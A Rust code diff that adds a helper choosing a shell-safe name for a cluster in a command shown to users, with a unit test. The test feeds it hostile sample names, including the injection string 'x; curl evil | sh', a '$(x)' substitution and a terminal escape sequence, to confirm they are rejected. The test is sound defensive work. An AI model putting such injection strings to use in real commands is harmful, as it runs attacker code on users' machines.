@@ -12,6 +12,13 @@ use crate::exit::Exit;
 use crate::failure::{Failure, Outcome};
 use towline_protocol::ids::ClusterId;
 
+/// What names a cluster in a command that people are told to type: its name, unless the server made one up that a shell
+/// would read as something else.
+fn word<'a>(cluster: &'a Cluster, id: &'a ClusterId) -> &'a str {
+    let plain = !cluster.name.is_empty() && cluster.name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
+    if plain { &cluster.name } else { id.as_str() }
+}
+
 /// The id of a cluster that still takes clients.
 fn open_cluster(cluster: &Cluster) -> Outcome<ClusterId> {
     if !matches!(cluster.state.as_str(), "starting" | "running") {
@@ -35,4 +42,21 @@ fn open_cluster(cluster: &Cluster) -> Outcome<ClusterId> {
         )
         .caused_by(&error)
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_name_of_the_servers_becomes_a_command() {
+        let named = |name: &str| -> Cluster {
+            serde_json::from_value(serde_json::json!({"id": "x", "name": name, "state": "running"})).expect("a view")
+        };
+        let id = ClusterId::from_random([1; 10]);
+        assert_eq!(word(&named("steps-2"), &id), "steps-2");
+        for odd in ["", "x; curl evil | sh", "$(x)", "a b", "a\u{1b}[2J"] {
+            assert_eq!(word(&named(odd), &id), id.as_str(), "{odd:?}");
+        }
+    }
 }
